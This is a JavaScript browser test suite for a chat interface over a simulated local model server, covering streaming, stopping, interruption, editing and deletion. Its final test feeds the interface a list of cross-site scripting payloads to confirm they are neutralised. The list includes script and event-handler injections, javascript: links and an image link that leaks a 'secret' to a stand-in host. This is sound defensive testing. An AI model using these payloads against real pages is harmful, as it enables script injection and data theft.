// An answer: it streams, thinks, is stopped, edited, made again and interrupted, and can do no harm.
import assert from 'node:assert/strict';
import { test } from 'node:test';

import { eventually } from '../clients/support/eventually.mjs';
import { answers, ask, assert_accessible, at, browser, complete, end, say, server, use_model } from './bench.mjs';
import { open_page, watch } from './browser.mjs';

test('an answer streams, in Markdown, with its figures; then it is edited and made again', async () => {
  const page = await open_page(browser, at(server));
  await page.getByText('SIMULATED: no model runs here').waitFor();
  await use_model(page, 'qwen2-slow');
  await ask(page, '@n=40 Tell me about boards');
  await answers(page).getByText('.').first().waitFor();
  await page.getByRole('button', { name: 'Stop' }).waitFor(); // it still goes on
  await complete(page);
  assert.match(await answers(page).locator('.figures').textContent(), /tokens\/s · first token after [\d.]+ s · 40 tokens/);
  // What the server measures is the answer's, too: not that of the run of one token that warms the model up behind it.
  const runs = /^rkllm_mcp_calls_total\{method="rkllm_run",outcome="ok"\} (\d+)/m;
  await eventually(async () => Number(runs.exec(await (await fetch(`${at(server)}/metrics`)).text())[1]) >= 2);
  const [{ tokens_per_second }] = (await (await fetch(`${at(server)}/health`)).json()).models;
  assert.ok(tokens_per_second > 10 && tokens_per_second < 30, `${tokens_per_second}`);

  await use_model(page, 'qwen2-quick');
  await page.getByRole('button', { name: 'Edit' }).click();
  await page.getByLabel('Edit the message').fill(say('# Boards\n\n- **small**\n- cheap\n\n```c\nint main() {}\n```\n'));
  await page.getByRole('button', { name: 'Send again' }).click();
  const answer = await complete(page);
  await answer.locator('li strong', { hasText: 'small' }).waitFor();
  assert.equal(await answer.locator('pre').textContent(), 'int main() {}\n');
  await answer.getByRole('button', { name: 'Copy', exact: true }).click();
  await answer.getByRole('button', { name: 'Answer again' }).click();
  await complete(page);
  assert.equal(await page.locator('article').count(), 2);
  await assert_accessible(page);
  await end(page);
});

test('thinking is folded away', async () => {
  const page = await open_page(browser, at(server));
  await use_model(page, 'qwen3-thinker');
  await ask(page, '@n=60 Why is the sky blue?');
  const answer = await complete(page);
  const folded = answer.locator('details.thinking');
  assert.equal(await folded.getAttribute('open'), null);
  await folded.locator('summary').click();
  await folded.locator('.plain').waitFor();
  await end(page);
});

test('Stop ends the run, and keeps what was said', async () => {
  const page = await open_page(browser, at(server));
  await use_model(page, 'qwen2-slow');
  await ask(page, '@n=4000 Count');
  await answers(page).getByText('.').first().waitFor();
  await page.getByRole('button', { name: 'Stop' }).click();
  const answer = await complete(page);
  await answer.getByText('Stopped').waitFor();
  assert.ok((await answer.locator('.part').first().textContent()).length > 0);
  // The model is free: the next answer begins at once, and ends by the Escape key.
  await ask(page, '@n=4000 Again');
  await answers(page).nth(1).getByText('.').first().waitFor();
  await page.keyboard.press('Escape');
  await complete(page, 2);
  await end(page);
});

test('leaving the page in the middle of an answer loses nothing, and ends the run', async () => {
  const page = await open_page(browser, at(server));
  await use_model(page, 'qwen2-slow');
  await ask(page, '@n=4000 Tell me everything');
  await answers(page).getByText('This is a simulated answer.').waitFor();
  await page.reload();
  const answer = await complete(page);
  await answer.getByText('Interrupted').waitFor();
  assert.match(await answer.locator('.part').first().textContent(), /^\s*This is a simulated answer\./);
  await page.getByText('@n=4000 Tell me everything').first().waitFor();
  await ask(page, '@n=3 And now?'); // would wait for minutes if the run still went on
  await complete(page, 2);
  // The server's memory has it as well: another tab finds it.
  const other = await page.context().newPage();
  watch(other, at(server));
  await other.goto(`${at(server)}/`);
  await other.getByRole('button', { name: /^@n=4000 Tell me everything/ }).click();
  await complete(other, 2);
  await other.getByRole('button', { name: /^Delete/ }).first().waitFor();
  other.once('dialog', (dialog) => dialog.accept());
  await other.getByRole('button', { name: 'Delete “@n=4000 Tell me everything”' }).click();
  await other.getByRole('button', { name: 'Delete “@n=4000 Tell me everything”' }).waitFor({ state: 'detached' });
  assert.deepEqual(other.faults, []);
  await end(page);
});

test('no text of a model becomes a script, a style, a picture or a form', async () => {
  const page = await open_page(browser, at(server));
  await use_model(page, 'qwen2-quick');
  const evil = [
    '<script>window.stolen=1</script><img src=x onerror="window.stolen=1"><svg onload="window.stolen=1">',
    '[click](javascript:window.stolen=1) [data](data:text/html,x) ![picture](https://elsewhere.example/?secret)',
    '<iframe src="https://elsewhere.example"></iframe><form action="https://elsewhere.example"><input name=a></form>',
    '<style>body{display:none}</style><a href="x" style="position:fixed;inset:0" onclick="window.stolen=1">a</a>',
    '`<b>` <math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=window.stolen=1&gt;">',
  ].join('\n\n');
  await ask(page, say(evil));
  const answer = await complete(page);
  for (const link of await answer.locator('a').all()) await link.evaluate((each) => each.protocol === 'javascript:' && each.click());
  assert.equal(await page.evaluate(() => window.stolen), undefined);
  assert.equal(await answer.locator('script, style, img, svg, iframe, form, input, math, [style], [onclick], [onerror]').count(), 0);
  assert.deepEqual(await answer.locator('a').evaluateAll((all) => all.map(({ href, rel, target }) => [href, rel, target])),
    [['', '', ''], ['', '', ''], ['https://elsewhere.example/?secret', 'noopener noreferrer', '_blank']]);
  await answer.getByText('<script>window.stolen=1</script>').waitFor(); // shown as what it is
  await end(page);
});
